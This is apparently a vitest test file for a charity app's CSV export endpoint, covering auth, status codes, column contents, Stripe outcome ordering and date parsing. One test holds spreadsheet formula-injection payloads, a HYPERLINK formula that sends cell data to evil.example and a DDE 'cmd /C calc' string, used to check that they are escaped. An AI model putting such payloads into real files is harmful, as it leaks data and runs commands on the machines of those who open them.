/** GET /export on every kind of database: who may read it, what it says, and that a spreadsheet never runs a cell. */
import {parse} from 'csv-parse/sync';
import {afterEach, beforeEach, describe, expect, it} from 'vitest';
import {createPgStore} from './pgStore';
import {parseSince} from './export';
import {answerExport} from './exportRoute';
import type {GiftRecord, GiftStore} from './store';
import {DATABASES, type TestDatabase} from '../testing/databases';
import {keptGift, keptSignature, paidRecord} from '../testing/records';

const TOKEN = 'export-token-0123456789abcdefghijklmnop';
const NOW = Date.UTC(2026, 0, 31, 12);
const JAN_1 = Date.UTC(2026, 0, 1) / 1000;
const DAY = 24 * 60 * 60;

const exportRequest = (query: string, authorization: string | null = `Bearer ${TOKEN}`, method = 'GET') =>
  new Request(`https://coral.example.org/export?${query}`, {method, headers: authorization === null ? {} : {authorization}});

const rowsOf = (text: string): Array<Record<string, string>> => parse(text, {columns: true});

describe.each(DATABASES)('export on $name', ({create}) => {
  let test: TestDatabase;
  let store: GiftStore;
  const answer = (request: Request, token: string | null = TOKEN, pageSize?: number) =>
    answerExport({db: test.db, token, now: () => NOW, ...(pageSize ? {pageSize} : {})}, request);
  const exported = async (query: string, pageSize?: number) => {
    const response = await answer(exportRequest(query), TOKEN, pageSize);
    expect(response.status).toBe(200);
    return rowsOf(await response.text());
  };

  beforeEach(async () => {
    test = await create();
    store = createPgStore(test.db);
  });
  afterEach(async () => {
    await test.drop();
  });

  it('answers 404 when no token is configured, whatever is sent', async () => {
    const response = await answer(exportRequest('kind=gifts'), null);
    expect(response.status).toBe(404);
    expect(await response.json()).toEqual({status: 'rejected', reason: 'not found'});
  });

  it.each([
    ['no Authorization header', null],
    ['a wrong token', 'Bearer export-token-0123456789abcdefghijklmnoq'],
    ['a prefix of the token', `Bearer ${TOKEN.slice(0, -1)}`],
    ['the token and more', `Bearer ${TOKEN}x`],
    ['Basic credentials', `Basic ${btoa(`coral:${TOKEN}`)}`],
    ['the token as Basic', `Basic ${TOKEN}`],
    ['Bearer with no token', 'Bearer '],
  ])('answers 401 to %s, and says nothing else', async (_, authorization) => {
    const response = await answer(exportRequest('kind=nonsense&since=never', authorization));
    expect(response.status).toBe(401);
    expect(response.headers.get('www-authenticate')).toBe('Bearer');
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(await response.json()).toEqual({status: 'rejected', reason: 'unauthorised'});
  });

  it('takes the scheme in any case', async () => {
    expect((await answer(exportRequest('kind=gifts', `bearer ${TOKEN}`))).status).toBe(200);
  });

  it('answers 405 to anything but GET', async () => {
    const response = await answer(exportRequest('kind=gifts', `Bearer ${TOKEN}`, 'POST'));
    expect(response.status).toBe(405);
    expect(response.headers.get('allow')).toBe('GET');
  });

  it.each([
    ['', 'kind: expected gifts or signatures'],
    ['kind=payments', 'kind: expected gifts or signatures'],
    ['kind=gifts&since=yesterday', 'since: expected'],
    ['kind=gifts&since=2026-02-30', 'since: expected'],
    ['kind=gifts&since=2026-01-31T25:00:00Z', 'since: expected'],
    ['kind=gifts&since=2026-01-31T09:00:00', 'since: expected'],
    ['kind=signatures&since=1767225600', 'since: expected'],
  ])('answers 400 to ?%s', async (query, reason) => {
    const response = await answer(exportRequest(query));
    expect(response.status).toBe(400);
    expect(((await response.json()) as {reason: string}).reason).toContain(reason);
  });

  it('answers 503 when the records cannot be read', async () => {
    await test.db.close();
    const response = await answer(exportRequest('kind=gifts'));
    expect(response.status).toBe(503);
    expect(await response.json()).toMatchObject({status: 'error', retryable: true});
  });

  it('answers an empty export as its header row, as a CSV download', async () => {
    const response = await answer(exportRequest('kind=signatures'));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="coral-signatures-2026-01-31.csv"');
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(await response.text()).toBe(
      'reference,campaign,kind,source_code,first_name,last_name,email,phone,postcode,answer_id,answer,consent,consent_wording,' +
        'consent_version,consented_at,utm_source,utm_medium,utm_campaign,utm_content,utm_term,created_at,form,form_version,form_variant,country\n',
    );
  });

  it('exports signatures exactly as kept: commas, quotes, new lines and any script', async () => {
    const awkward = {firstName: 'Zoë, "Jo"', lastName: 'Ngā\nTāngata 山田', email: 'Zoe@Example.org', postcode: '0600'};
    const {reference} = await store.sign(
      keptSignature({
        supporter: awkward,
        answer: {id: 'q1', value: 'Yes; "really"\r\nand more'},
        consent: {given: false, wording: 'Email me, text me.', version: 'v2'},
        utm: {utm_source: 'news letter', utm_campaign: 'reef-2026'},
        createdAt: JAN_1 + 90,
      }),
    );
    expect(await exported('kind=signatures')).toEqual([
      {
        reference,
        campaign: 'ban-deep-sea-mining',
        kind: 'petition',
        source_code: 'DSM-WEB',
        first_name: 'Zoë, "Jo"',
        last_name: 'Ngā\nTāngata 山田',
        email: 'zoe@example.org',
        phone: '',
        postcode: '0600',
        answer_id: 'q1',
        answer: 'Yes; "really"\r\nand more',
        consent: 'false',
        consent_wording: 'Email me, text me.',
        consent_version: 'v2',
        consented_at: '2026-01-01T00:01:30.000Z',
        utm_source: 'news letter',
        utm_medium: '',
        utm_campaign: 'reef-2026',
        utm_content: '',
        utm_term: '',
        created_at: '2026-01-01T00:01:30.000Z',
        form: '',
        form_version: '',
        form_variant: '',
        country: '',
      },
    ]);
  });

  it('exports gifts with what Stripe said of each since', async () => {
    await store.keepGift(keptGift());
    await store.keepGift(
      keptGift({
        reference: 'sub_1',
        frequency: 'monthly',
        supporter: {firstName: 'Grace'},
        consent: {given: false, wording: 'Keep me updated.', version: 'v1'},
        utm: {},
        upgradeFrom: {amount: 2500, frequency: 'one-off'},
        createdAt: JAN_1 + 10,
      }),
    );
    await store.recordOnce('failed:evt_0', paidRecord({outcome: 'failed', eventId: 'evt_0', recordedAt: JAN_1 + 30}));
    await store.recordOnce('paid:pi_1', paidRecord());
    await store.recordOnce('paid:in_1', paidRecord({reference: 'sub_1', stripeId: 'in_1', amount: 2500, recordedAt: JAN_1 + 20}));
    await store.recordOnce(
      'paid:in_2',
      paidRecord({reference: 'sub_1', stripeId: 'in_2', amount: 2500, recordedAt: JAN_1 + 20 + 30 * DAY}),
    );
    await store.recordOnce('ended:sub_1', paidRecord({outcome: 'ended', reference: 'sub_1', amount: null, recordedAt: JAN_1 + 40 * DAY}));

    const [first, second, ...rest] = await exported('kind=gifts');
    expect(rest).toEqual([]);
    expect(first).toEqual({
      reference: 'pi_1',
      campaign: 'save-the-reef',
      via: 'gifts',
      source_code: 'REEF-WEB',
      frequency: 'one-off',
      method: 'card',
      currency: 'AUD',
      amount_cents: '6000',
      fee_cents: '120',
      payments: '',
      first_name: 'Ada',
      last_name: 'Lovelace',
      email: 'ada@example.org',
      phone: "'+61412345678",
      postcode: '2000',
      address: '1 Reef Rd',
      consent: 'true',
      consent_wording: 'Keep me updated.',
      consent_version: '0123456789abcdef',
      consented_at: '2026-01-01T00:00:00.000Z',
      utm_source: 'newsletter',
      utm_medium: 'email',
      utm_campaign: '',
      utm_content: '',
      utm_term: '',
      upgrade_from_amount_cents: '',
      upgrade_from_frequency: '',
      latest_outcome: 'paid',
      latest_outcome_at: '2026-01-01T00:01:00.000Z',
      paid_count: '1',
      paid_total_cents: '6120',
      created_at: '2026-01-01T00:00:00.000Z',
      form: '',
      form_version: '',
      form_variant: '',
      country: '',
    });
    expect(second).toMatchObject({
      reference: 'sub_1',
      frequency: 'monthly',
      first_name: 'Grace',
      last_name: '',
      consent: 'false',
      upgrade_from_amount_cents: '2500',
      upgrade_from_frequency: 'one-off',
      latest_outcome: 'ended',
      latest_outcome_at: '2026-02-10T00:00:00.000Z',
      paid_count: '2',
      paid_total_cents: '5000',
    });
  });

  it('says a gift’s latest outcome by when Stripe reported it, not by the order its events arrived in', async () => {
    await store.keepGift(keptGift());
    const day = (n: number) => JAN_1 + n * DAY;
    // Paid on day 1, refunded on day 2, disputed on day 3; Stripe delivers them on day 4, newest first.
    await store.recordOnce('disputed:du_1', paidRecord({outcome: 'disputed', stripeId: 'du_1', eventCreated: day(3), recordedAt: day(4)}));
    await store.recordOnce(
      'refunded:ch_1:6120',
      paidRecord({outcome: 'refunded', stripeId: 'ch_1', eventCreated: day(2), recordedAt: day(4) + 1}),
    );
    await store.recordOnce('paid:pi_1', paidRecord({eventCreated: day(1), recordedAt: day(4) + 2}));
    const [row] = await exported('kind=gifts');
    expect(row).toMatchObject({
      latest_outcome: 'disputed',
      latest_outcome_at: new Date(day(3) * 1000).toISOString(),
      paid_count: '1',
      paid_total_cents: '6120',
    });
  });

  it('takes the later step of a gift’s life when Stripe reported two in the same second', async () => {
    await store.keepGift(keptGift());
    await store.keepGift(keptGift({reference: 'pi_2', createdAt: JAN_1 + 1}));
    const second = JAN_1 + 60;
    // Arrived newest first, all of one second: the dispute's close, the dispute, the refund, the payment.
    const steps: Array<[string, Partial<GiftRecord>]> = [
      ['dispute-closed:du_1:lost', {outcome: 'dispute-lost', stripeId: 'du_1'}],
      ['disputed:du_1', {outcome: 'disputed', stripeId: 'du_1'}],
      ['refunded:ch_1:100', {outcome: 'refunded', stripeId: 'ch_1'}],
      ['paid:pi_1', {}],
      // Another gift declined, then paid by another card, in one second.
      ['paid:pi_2', {reference: 'pi_2', stripeId: 'pi_2'}],
      ['failed:evt_zzz', {outcome: 'failed', reference: 'pi_2', stripeId: 'pi_2'}],
    ];
    for (const [n, [key, change]] of steps.entries()) {
      await store.recordOnce(key, paidRecord({...change, eventCreated: second, recordedAt: second + n}));
    }
    const rows = await exported('kind=gifts');
    expect(rows.map((row) => [row.reference, row.latest_outcome, row.latest_outcome_at])).toEqual([
      ['pi_1', 'dispute-lost', '2026-01-01T00:01:00.000Z'],
      ['pi_2', 'paid', '2026-01-01T00:01:00.000Z'],
    ]);
  });

  it('answers a gift Stripe has said nothing of with empty outcome columns', async () => {
    await store.keepGift(keptGift());
    const [row] = await exported('kind=gifts');
    expect(row).toMatchObject({latest_outcome: '', latest_outcome_at: '', paid_count: '0', paid_total_cents: '0'});
  });

  it('puts an apostrophe before every cell a spreadsheet would run as a formula', async () => {
    const {reference} = await store.sign(
      keptSignature({
        supporter: {
          firstName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
          lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
          phone: '+61412345678',
          postcode: '-2000',
        },
        sourceCode: '+SOURCE',
        answer: {id: '=1+1', value: '\t=1+1'},
        consent: {given: true, wording: '\r=1+1', version: '-v1'},
        utm: {utm_source: '=cmd', utm_term: 'safe=enough'},
      }),
    );
    const [row] = await exported('kind=signatures');
    expect(row).toMatchObject({
      reference,
      first_name: '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
      last_name: "'@SUM(1+1)*cmd|' /C calc'!A0",
      phone: "'+61412345678",
      postcode: "'-2000",
      source_code: "'+SOURCE",
      answer_id: "'=1+1",
      answer: "'\t=1+1",
      consent_wording: "'\r=1+1",
      consent_version: "'-v1",
      utm_source: "'=cmd",
      utm_term: 'safe=enough',
    });
  });

  it('answers the records made since a date or a moment, oldest first', async () => {
    const made: Array<{createdAt: number; reference: string}> = [];
    for (const [i, createdAt] of [JAN_1 + 2 * DAY, JAN_1, JAN_1 + DAY + 3600, JAN_1 + DAY].entries()) {
      made.push({createdAt, reference: (await store.sign(keptSignature({supporter: {email: `s${i}@example.org`}, createdAt}))).reference});
    }
    const references = (rows: Array<Record<string, string>>) => rows.map((row) => row.reference);
    const inOrder = made.sort((a, b) => a.createdAt - b.createdAt).map((one) => one.reference);
    expect(references(await exported('kind=signatures'))).toEqual(inOrder);
    expect(references(await exported('kind=signatures&since=2026-01-02'))).toEqual(inOrder.slice(1));
    expect(references(await exported('kind=signatures&since=2026-01-02T01:00:00Z'))).toEqual(inOrder.slice(2));
    // Eleven in the morning in Sydney is one o'clock UTC; the "+" may arrive unencoded, and so be read as a space.
    expect(references(await exported('kind=signatures&since=2026-01-02T11:00:00%2B10:00'))).toEqual(inOrder.slice(2));
    expect(references(await exported('kind=signatures&since=2026-01-02T11:00:00+10:00'))).toEqual(inOrder.slice(2));
    expect(references(await exported('kind=signatures&since=2026-01-04'))).toEqual([]);
  });

  it('reads page after page, one row at a time even when rows share a moment', async () => {
    for (let i = 0; i < 7; i += 1) await store.sign(keptSignature({supporter: {email: `s${i}@example.org`}, createdAt: JAN_1 + (i % 3)}));
    const whole = await exported('kind=signatures');
    expect(whole).toHaveLength(7);
    const byPage = await exported('kind=signatures', 2);
    expect(byPage).toEqual(whole);
    expect(await exported('kind=signatures', 7)).toEqual(whole);
    const keys = whole.map((row) => `${row.created_at} ${row.reference}`);
    expect(keys).toEqual([...keys].sort());
  });
});

describe('since', () => {
  it.each([
    ['2026-01-31', '2026-01-31T00:00:00.000Z'],
    ['2026-01-31T09:30Z', '2026-01-31T09:30:00.000Z'],
    ['2026-01-31T09:30:15.250+10:00', '2026-01-30T23:30:15.250Z'],
    ['2026-01-31T09:30:15 10:00', '2026-01-30T23:30:15.000Z'],
    ['2024-02-29', '2024-02-29T00:00:00.000Z'],
  ])('reads %s as %s', (value, instant) => {
    expect(parseSince(value)).toBe(instant);
  });

  it.each(['2025-02-29', '2026-13-01', '31/01/2026', '2026-01-31T09:30', '2026-01-31 09:30Z', '2026-01-31T24:30Z'])(
    'refuses %s',
    (value) => {
      expect(parseSince(value)).toBeNull();
    },
  );
});
